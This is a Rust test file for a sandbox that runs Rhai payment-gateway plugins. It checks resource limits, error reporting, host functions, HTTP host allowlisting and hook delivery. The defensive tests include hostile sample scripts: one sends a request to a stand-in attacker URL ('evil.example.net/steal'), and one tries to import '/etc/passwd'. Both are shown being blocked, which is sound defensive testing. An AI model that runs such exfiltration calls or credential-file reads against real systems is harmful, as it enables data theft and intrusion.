//! Sandbox behaviour: limits stop hostile scripts, the process survives, host functions
//! behave as documented.

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::test_support::{Reply, inline_plugin, runtime, serve};
use crate::{CallContext, Limit, Limits, PluginError};

/// The default limits with a deadline far beyond any test's need: a test about another limit
/// must not fail by the deadline on a loaded machine (a 2 s deadline did, under a full suite
/// beside other builds). Deadline tests set their own.
fn quick_limits() -> Limits {
    Limits {
        deadline: Duration::from_secs(30),
        ..Limits::default()
    }
}

async fn run(functions: &str, limits: Limits) -> Result<Value, PluginError> {
    let rt = runtime(limits);
    let plugin = inline_plugin(&rt, &["127.0.0.1"], functions);
    plugin
        .call("start", json!([]), CallContext::default())
        .await
}

#[tokio::test]
async fn an_infinite_loop_is_stopped_by_the_operations_limit() {
    let err = run("fn start() { loop { } }", quick_limits())
        .await
        .unwrap_err();
    assert!(
        matches!(err, PluginError::LimitExceeded(Limit::Operations)),
        "{err}"
    );
}

#[tokio::test]
async fn an_infinite_loop_is_stopped_by_the_deadline_when_operations_are_unbounded() {
    let limits = Limits {
        max_operations: 0,
        deadline: Duration::from_millis(300),
        ..Limits::default()
    };
    let started = Instant::now();
    let err = run("fn start() { let x = 0; loop { x += 1; } }", limits)
        .await
        .unwrap_err();
    assert!(matches!(err, PluginError::Timeout(_)), "{err}");
    assert!(started.elapsed() < Duration::from_secs(2));
}

#[tokio::test]
async fn sleep_cannot_outlive_the_deadline() {
    let err = run("fn start() { sleep(60); }", quick_limits())
        .await
        .unwrap_err();
    assert!(matches!(err, PluginError::Script { .. }), "{err}");
}

#[tokio::test]
async fn a_huge_string_is_stopped_by_the_string_limit() {
    let err = run(
        r#"fn start() { let s = "x"; loop { s += s; } }"#,
        quick_limits(),
    )
    .await
    .unwrap_err();
    assert!(
        matches!(err, PluginError::LimitExceeded(Limit::StringSize)),
        "{err}"
    );
}

#[tokio::test]
async fn a_huge_array_is_stopped_by_the_array_limit() {
    let err = run(
        "fn start() { let a = []; a.pad(100000000, 0); a }",
        quick_limits(),
    )
    .await
    .unwrap_err();
    assert!(
        matches!(err, PluginError::LimitExceeded(Limit::ArraySize)),
        "{err}"
    );
    let err = run(
        "fn start() { let a = []; loop { a.push(1); } }",
        quick_limits(),
    )
    .await
    .unwrap_err();
    assert!(
        matches!(err, PluginError::LimitExceeded(Limit::ArraySize)),
        "{err}"
    );
}

#[tokio::test]
async fn a_huge_map_is_stopped_by_the_map_limit() {
    let script = "fn start() { let m = #{}; let i = 0; loop { m[`k${i}`] = i; i += 1; m.len(); } }";
    let limits = Limits {
        max_map_size: 100,
        ..quick_limits()
    };
    let err = run(script, limits).await.unwrap_err();
    assert!(
        matches!(err, PluginError::LimitExceeded(Limit::MapSize)),
        "{err}"
    );
}

#[tokio::test]
async fn a_map_grown_only_by_indexing_is_still_bounded() {
    // Rhai checks sizes when a value is used, not on `m[k] = v`; the operations limit
    // (or the deadline) bounds such a loop instead.
    let script = "fn start() { let m = #{}; let i = 0; loop { m[`k${i}`] = i; i += 1; } }";
    let err = run(script, quick_limits()).await.unwrap_err();
    assert!(
        matches!(
            err,
            PluginError::LimitExceeded(Limit::Operations) | PluginError::Timeout(_)
        ),
        "{err}"
    );
}

#[tokio::test]
async fn oversized_results_are_refused_on_return() {
    let limits = Limits {
        max_map_size: 10,
        ..quick_limits()
    };
    let script = "fn start() { let m = #{}; for i in 0..50 { m[`k${i}`] = i; } m }";
    let err = run(script, limits).await.unwrap_err();
    assert!(
        matches!(err, PluginError::LimitExceeded(Limit::MapSize)),
        "{err}"
    );
}

#[tokio::test]
async fn runaway_recursion_is_stopped_by_the_call_depth_limit() {
    let err = run("fn f(n) { f(n + 1) } fn start() { f(0) }", quick_limits())
        .await
        .unwrap_err();
    assert!(
        matches!(err, PluginError::LimitExceeded(Limit::CallDepth)),
        "{err}"
    );
}

#[test]
fn deeply_nested_expressions_are_refused_at_compile_time() {
    let rt = runtime(quick_limits());
    let expr = format!("{}1{}", "(".repeat(200), ")".repeat(200));
    let manifest = crate::builtin::source("manual").unwrap().manifest;
    let manifest = crate::manifest::Manifest::from_toml(manifest).unwrap();
    let err = rt
        .load(manifest, &format!("fn start() {{ {expr} }}"))
        .unwrap_err();
    assert!(
        matches!(err, PluginError::LimitExceeded(Limit::ExpressionDepth)),
        "{err}"
    );
}

#[tokio::test]
async fn the_process_survives_and_keeps_serving_after_a_limit() {
    let rt = runtime(quick_limits());
    let plugin = inline_plugin(&rt, &[], "fn spin() { loop {} } fn ok(x) { x + 1 }");
    assert!(
        plugin
            .call("spin", json!([]), CallContext::default())
            .await
            .is_err()
    );
    let value = plugin
        .call("ok", json!([41]), CallContext::default())
        .await
        .unwrap();
    assert_eq!(value, json!(42));
}

#[tokio::test]
async fn script_errors_carry_the_message_and_position() {
    let err = run(
        "fn start() {\n  let x = 1;\n  throw \"boom\";\n}",
        quick_limits(),
    )
    .await
    .unwrap_err();
    match err {
        PluginError::Script { message, position } => {
            assert_eq!(message, "boom");
            assert_eq!(position.map(|p| p.line), Some(3));
        }
        other => panic!("unexpected {other}"),
    }
}

#[test]
fn compile_errors_carry_the_position() {
    let rt = runtime(quick_limits());
    let manifest =
        crate::manifest::Manifest::from_toml(crate::builtin::source("manual").unwrap().manifest)
            .unwrap();
    let err = rt
        .load(manifest, "fn create_payment(r) {\n  let = 1;\n}")
        .unwrap_err();
    match err {
        PluginError::Compile { position, .. } => assert_eq!(position.map(|p| p.line), Some(2)),
        other => panic!("unexpected {other}"),
    }
}

#[test]
fn a_plugin_without_the_contract_functions_is_refused() {
    let rt = runtime(quick_limits());
    let manifest =
        crate::manifest::Manifest::from_toml(crate::builtin::source("manual").unwrap().manifest)
            .unwrap();
    let err = rt.load(manifest, "fn create_payment(r) { r }").unwrap_err();
    assert!(
        matches!(err, PluginError::MissingFunction { ref name, .. } if name == "check_status"),
        "{err}"
    );
}

#[tokio::test]
async fn modules_and_eval_are_not_available() {
    let rt = runtime(quick_limits());
    let manifest =
        crate::manifest::Manifest::from_toml(crate::builtin::source("manual").unwrap().manifest)
            .unwrap();
    let err = rt
        .load(
            manifest,
            "import \"/etc/passwd\" as p;\nfn create_payment(r) { r }",
        )
        .unwrap_err();
    assert!(matches!(err, PluginError::Compile { .. }), "{err}");
    let manifest =
        crate::manifest::Manifest::from_toml(crate::builtin::source("manual").unwrap().manifest)
            .unwrap();
    let err = rt
        .load(manifest, "fn create_payment(r) { eval(\"1 + 1\") }")
        .unwrap_err();
    assert!(matches!(err, PluginError::Compile { .. }), "{err}");
}

#[tokio::test]
async fn unknown_functions_and_bad_arguments_are_reported() {
    let rt = runtime(quick_limits());
    let plugin = inline_plugin(&rt, &[], "fn one(a) { a }");
    let err = plugin
        .call("one", json!([1, 2]), CallContext::default())
        .await
        .unwrap_err();
    assert!(
        matches!(err, PluginError::MissingFunction { arity: 2, .. }),
        "{err}"
    );
    let err = plugin
        .call("one", json!({"a": 1}), CallContext::default())
        .await
        .unwrap_err();
    assert!(matches!(err, PluginError::BadArguments(_)), "{err}");
}

#[tokio::test]
async fn float_results_are_a_bad_return() {
    let err = run("fn start() { 0.1 + 0.2 }", quick_limits())
        .await
        .unwrap_err();
    assert!(matches!(err, PluginError::BadReturn { .. }), "{err}");
}

#[tokio::test]
async fn each_call_gets_a_fresh_scope() {
    let rt = runtime(quick_limits());
    let plugin = inline_plugin(&rt, &[], "fn count(m) { m.n += 1; m.n }");
    for _ in 0..2 {
        let v = plugin
            .call("count", json!([{"n": 0}]), CallContext::default())
            .await
            .unwrap();
        assert_eq!(v, json!(1));
    }
}

#[tokio::test]
async fn host_functions_compute_gateway_primitives() {
    let script = r#"
        fn start() {
            #{
                md5: md5("D0001" + "10000" + "12345" + "732B39FC61796845775D2C4FB05332AF"),
                sha512: sha512("1111" + "200" + "100000.00" + "askvnoibnosifnboseofinbofinfgbiufglnbfg"),
                b64: base64_encode("SB-Mid-server-TEST123:"),
                eq: constant_time_eq("abc", "abc") && !constant_time_eq("abc", "abd"),
                json: json_parse(`{"a":10000.00,"b":12345678901234567890}`),
                php: json_encode_php(#{ r: "INV/1", n: "é" }),
                int: amount_to_int("150000.00"),
                wib: now_wib(),
                s: setting("greeting"),
                missing: setting("nope"),
            }
        }"#;
    let rt = runtime(quick_limits());
    let plugin = inline_plugin(&rt, &[], script);
    let now = chrono::DateTime::from_timestamp(1_643_102_588, 0).unwrap();
    let settings = json!({"greeting": "hi"}).as_object().unwrap().clone();
    // `greeting` is not in the inline manifest's schema, so it is dropped.
    let v = plugin
        .call("start", json!([]), CallContext::new(settings).at(now))
        .await
        .unwrap();
    assert_eq!(v["md5"], "4104f20a70c933113c66c004fe25a9f1");
    assert!(
        v["sha512"]
            .as_str()
            .unwrap()
            .starts_with("edc076b21793ebe3")
    );
    assert_eq!(v["b64"], "U0ItTWlkLXNlcnZlci1URVNUMTIzOg==");
    assert_eq!(v["eq"], true);
    assert_eq!(
        v["json"],
        json!({"a": "10000.00", "b": "12345678901234567890"})
    );
    assert_eq!(v["php"], r#"{"n":"\u00e9","r":"INV\/1"}"#);
    assert_eq!(v["int"], 150000);
    assert_eq!(v["wib"], "2022-01-25 16:23:08");
    assert_eq!(v["s"], Value::Null);
    assert_eq!(v["missing"], Value::Null);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_call_to_an_undeclared_host_is_denied() {
    let rt = runtime(quick_limits());
    let plugin = inline_plugin(
        &rt,
        &["api.example.com"],
        r#"
        fn start() {
            try { http_request(#{ url: "https://evil.example.net/steal" }) } catch (e) { "swallowed" }
        }"#,
    );
    let err = plugin
        .call("start", json!([]), CallContext::default())
        .await
        .unwrap_err();
    assert!(
        matches!(err, PluginError::HostDenied { ref host } if host == "evil.example.net"),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plain_http_is_refused_for_hosts_other_than_loopback() {
    let rt = runtime(quick_limits());
    let plugin = inline_plugin(
        &rt,
        &["api.example.com"],
        r#"
        fn start() { http_request(#{ url: "http://api.example.com/x" }) }"#,
    );
    let err = plugin
        .call("start", json!([]), CallContext::default())
        .await
        .unwrap_err();
    assert!(
        matches!(err, PluginError::Script { ref message, .. } if message.contains("https")),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http_request_reaches_a_declared_loopback_host() {
    let server = serve(|_| Reply::json(201, r#"{"ok":true}"#)).await;
    let rt = runtime(quick_limits());
    let plugin = inline_plugin(
        &rt,
        &["127.0.0.1"],
        r#"
        fn start(base) {
            http_request(#{ method: "POST", url: base + "/v1/x?a=1", headers: #{ "X-Test": "yes" }, body: "hello" })
        }"#,
    );
    let v = plugin
        .call("start", json!([server.base()]), CallContext::default())
        .await
        .unwrap();
    assert_eq!(v["status"], 201);
    assert_eq!(v["body"], r#"{"ok":true}"#);
    assert_eq!(v["headers"]["content-type"], "application/json");
    let seen = server.only_request();
    assert_eq!(
        (seen.method.as_str(), seen.target.as_str()),
        ("POST", "/v1/x?a=1")
    );
    assert_eq!(seen.headers["x-test"], "yes");
    assert_eq!(seen.body, "hello");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_response_bodies_are_refused() {
    let server = serve(|_| Reply::json(200, "x".repeat(2048))).await;
    let limits = Limits {
        http_body_limit: 1024,
        ..quick_limits()
    };
    let rt = runtime(limits);
    let plugin = inline_plugin(
        &rt,
        &["127.0.0.1"],
        "fn start(base) { http_request(#{ url: base }) }",
    );
    let err = plugin
        .call("start", json!([server.base()]), CallContext::default())
        .await
        .unwrap_err();
    assert!(
        matches!(err, PluginError::Script { ref message, .. } if message.contains("exceeds")),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http_requests_per_call_are_limited() {
    let server = serve(|_| Reply::json(200, "{}")).await;
    let limits = Limits {
        max_http_requests: 2,
        ..quick_limits()
    };
    let rt = runtime(limits);
    let plugin = inline_plugin(
        &rt,
        &["127.0.0.1"],
        "fn start(base) { loop { http_request(#{ url: base }); } }",
    );
    let err = plugin
        .call("start", json!([server.base()]), CallContext::default())
        .await
        .unwrap_err();
    assert!(
        matches!(err, PluginError::LimitExceeded(Limit::HttpRequests)),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_gateway_that_never_answers_times_the_call_out() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((socket, _)) = listener.accept().await {
            held.push(socket); // keep it open, never answer
        }
    });
    let limits = Limits {
        deadline: Duration::from_millis(500),
        ..Limits::default()
    };
    let rt = runtime(limits);
    let plugin = inline_plugin(
        &rt,
        &["127.0.0.1"],
        r#"
        fn start(url) {
            try { http_request(#{ url: url, timeout_ms: 60000 }) } catch (e) { "swallowed" }
        }"#,
    );
    let started = Instant::now();
    let url = format!("http://127.0.0.1:{port}/");
    let err = plugin
        .call("start", json!([url]), CallContext::default())
        .await
        .unwrap_err();
    assert!(matches!(err, PluginError::Timeout(_)), "{err}");
    assert!(started.elapsed() < Duration::from_secs(2));
}

#[tokio::test]
async fn subscribed_hooks_are_delivered_and_others_ignored() {
    use crate::manifest::{Hook, Manifest};
    let manifest = Manifest::from_toml(
        "name = \"hooked\"\nversion = \"1.0.0\"\nauthor = \"t\"\ndescription = \"d\"\nhooks = [\"payment.completed\"]\n",
    )
    .unwrap();
    let base = "fn create_payment(r) { r } fn check_status(r) { r } fn handle_callback(r) { r }";
    let rt = runtime(quick_limits());
    let err = rt.load(manifest.clone(), base).unwrap_err();
    assert!(
        matches!(err, PluginError::MissingFunction { ref name, .. } if name == "on_payment_completed"),
        "{err}"
    );
    let script = format!(
        "{base} fn on_payment_completed(e) {{ if e.amount != \"150000\" {{ throw \"wrong\"; }} }}"
    );
    let plugin = rt.load(manifest, &script).unwrap();
    let event = json!({"order_id": "INV-1", "amount": "150000"});
    plugin
        .on_hook(
            Hook::PaymentCompleted,
            event.clone(),
            CallContext::default(),
        )
        .await
        .unwrap();
    plugin
        .on_hook(Hook::UserExpired, event, CallContext::default())
        .await
        .unwrap();
    let bad = json!({"amount": "1"});
    assert!(
        plugin
            .on_hook(Hook::PaymentCompleted, bad, CallContext::default())
            .await
            .is_err()
    );
}
